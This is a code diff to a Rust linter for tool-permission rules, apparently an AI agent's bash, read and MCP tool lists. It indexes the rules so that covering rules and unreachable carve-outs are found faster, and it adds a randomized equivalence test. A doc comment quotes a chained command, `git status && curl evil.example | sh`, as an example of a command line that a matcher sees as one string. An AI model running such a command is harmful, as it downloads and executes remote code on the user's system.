@@ -9,6 +9,7 @@ use super::{CRule, SourceInfo, ToolInfo};
 use crate::diag::{Diagnostic, DiagnosticKind};
 use crate::ir::Ir;
 use crate::policy::List;
+use std::collections::HashMap;
 
 /// Arguments a matcher reads that hold a whole command line: a rule on them
 /// sees `git status && curl evil.example | sh` as one string that starts
@@ -90,17 +91,12 @@ pub(super) fn lint(
         // tool-name glob naming it), or an earlier copy from another
         // source, with no carve-out of the tool in the list that could
         // cancel the earlier rule alone.
+        let covers = Covers::new(list);
         for (i, r) in list.iter().enumerate() {
             if r.carve {
                 continue;
             }
-            let carved = list.iter().any(|c| c.carve && c.tool == r.tool);
-            let cover = list
-                .get(..i)
-                .unwrap_or(&[])
-                .iter()
-                .find(|e| covers(e, r, carved));
-            if let Some(e) = cover {
+            if let Some(e) = covers.first(i, r).and_then(|e| list.get(e)) {
                 let from = match sources.get(e.source as usize) {
                     Some(s) if !s.name.is_empty() => format!(" of `{}`", s.name),
                     _ => String::new(),
@@ -128,13 +124,19 @@ pub(super) fn lint(
                 out.push((r.location, d));
             }
         }
+        // The lowest rank of each tool's rules, to judge carve-outs without
+        // a pass over the list for each.
+        let mut lowest: HashMap<&str, i64> = HashMap::new();
+        let rank = |r: &CRule<'_>| sources.get(r.source as usize).map_or(0, |s| s.rank);
+        for r in list.iter().filter(|r| !r.carve) {
+            let e = lowest.entry(r.tool).or_insert(i64::MAX);
+            *e = (*e).min(rank(r));
+        }
+        let any_glob = list.iter().any(|r| r.glob);
         for c in list.iter().filter(|r| r.carve) {
-            let rank = |r: &CRule<'_>| sources.get(r.source as usize).map_or(0, |s| s.rank);
             // A tool-name glob could reach the tool; what it reaches is the
             // runtime's to say, so only a list without one is judged.
-            let reached = list
-                .iter()
-                .any(|r| r.glob || (!r.carve && r.tool == c.tool && rank(r) <= rank(c)));
+            let reached = any_glob || lowest.get(c.tool).is_some_and(|&lo| lo <= rank(c));
             if !reached {
                 let d = Diagnostic::new(
                     DiagnosticKind::UnreachableCarveOut,
@@ -158,11 +160,78 @@ pub(super) fn lint(
     out
 }
 
+/// The rules of one list indexed for [`covers`]: the first bare rule of
+/// each tool, the first of each (tool, specifier) pair, the bare tool-name
+/// globs and the tools with a carve-out. Asking for the first rule that
+/// covers a later one is then a few lookups and a pass over the globs,
+/// where comparing every pair made a 100k-rule policy take seconds.
+struct Covers<'l, 'a> {
+    bare: HashMap<&'a str, usize>,
+    copies: HashMap<(&'a str, bool, Option<&'a str>), usize>,
+    globs: Vec<(usize, &'l CRule<'a>)>,
+    carved: std::collections::HashSet<&'a str>,
+}
+
+impl<'l, 'a> Covers<'l, 'a> {
+    fn new(list: &'l [CRule<'a>]) -> Self {
+        let mut c = Covers {
+            bare: HashMap::new(),
+            copies: HashMap::new(),
+            globs: Vec::new(),
+            carved: Default::default(),
+        };
+        for (i, r) in list.iter().enumerate() {
+            if r.carve {
+                c.carved.insert(r.tool);
+                continue;
+            }
+            c.copies.entry((r.tool, r.glob, r.spec)).or_insert(i);
+            if r.spec.is_none() {
+                if r.glob {
+                    c.globs.push((i, r));
+                } else {
+                    c.bare.entry(r.tool).or_insert(i);
+                }
+            }
+        }
+        c
+    }
+
+    /// The index of the first rule before `i` that covers `r`, the rule at
+    /// `i`: the first `e` for which `covers(e, r, carved)` holds.
+    fn first(&self, i: usize, r: &CRule<'a>) -> Option<usize> {
+        let carved = self.carved.contains(r.tool);
+        let before = |e: &usize| *e < i;
+        let glob = if r.glob {
+            None
+        } else {
+            self.globs
+                .iter()
+                .take_while(|(e, _)| *e < i)
+                .find(|(_, g)| crate::glob::matches(g.tool, r.tool))
+                .map(|(e, _)| *e)
+        };
+        let tool = (!carved && r.spec.is_some())
+            .then(|| self.bare.get(r.tool).copied().filter(before))
+            .flatten();
+        let copy = (!carved)
+            .then(|| {
+                self.copies
+                    .get(&(r.tool, r.glob, r.spec))
+                    .copied()
+                    .filter(before)
+            })
+            .flatten();
+        [glob, tool, copy].into_iter().flatten().min()
+    }
+}
+
 /// Whether `earlier`, written before `later` in one list, fires on every
 /// call `later` fires on: a bare tool-name glob naming its tool, a bare rule
 /// of its tool, or a copy of it. `carved` says a carve-out of the tool is in
 /// the list, which could cancel `earlier` alone; only the glob case stands
 /// then, since no carve-out reaches a glob.
+#[cfg(test)]
 fn covers(earlier: &CRule<'_>, later: &CRule<'_>, carved: bool) -> bool {
     let (e, r) = (earlier, later);
     if e.carve {
@@ -192,7 +261,7 @@ pub fn did_you_mean<'n>(name: &str, known: &[&'n str]) -> Option<&'n str> {
 
 #[cfg(test)]
 mod tests {
-    use super::did_you_mean;
+    use super::{covers, did_you_mean, CRule, Covers};
     use crate::policy::doc::edit_distance;
 
     #[test]
@@ -206,5 +275,46 @@ mod tests {
         assert_eq!(did_you_mean("Bahs", &["bash", "read"]), Some("bash"));
         assert_eq!(did_you_mean("BASH", &["bash"]), Some("bash"));
         assert_eq!(did_you_mean("fetch", &["bash", "read"]), None);
+    }
+
+    /// The index answers what comparing every earlier rule answers, on
+    /// lists of copies, bare rules, globs and carve-outs of a few tools.
+    #[test]
+    fn the_index_finds_the_first_covering_rule_as_a_pass_over_the_list_does() {
+        let tools = ["bash", "read", "mcp__gh__x", "mcp__*", "mcp__gh__*"];
+        let specs = [None, Some("git:*"), Some("rm:*")];
+        let mut state = 0x2545_f491_4f6c_dd1d_u64;
+        let mut next = |n: u64| {
+            state ^= state << 13;
+            state ^= state >> 7;
+            state ^= state << 17;
+            (state % n) as usize
+        };
+        for _ in 0..400 {
+            let len = 1 + next(12);
+            let list: Vec<CRule<'_>> = (0..len)
+                .map(|_| {
+                    let tool = tools[next(tools.len() as u64)];
+                    let glob = tool.contains('*');
+                    CRule {
+                        tool,
+                        glob,
+                        bound: false,
+                        spec: if glob { None } else { specs[next(3)] },
+                        carve: !glob && next(6) == 0,
+                        source: 0,
+                        note: None,
+                        text: tool,
+                        location: 0,
+                    }
+                })
+                .collect();
+            let index = Covers::new(&list);
+            for (i, r) in list.iter().enumerate().filter(|(_, r)| !r.carve) {
+                let carved = list.iter().any(|c| c.carve && c.tool == r.tool);
+                let plain = list[..i].iter().position(|e| covers(e, r, carved));
+                assert_eq!(index.first(i, r), plain, "rule {i} of {list:?}");
+            }
+        }
     }
 }
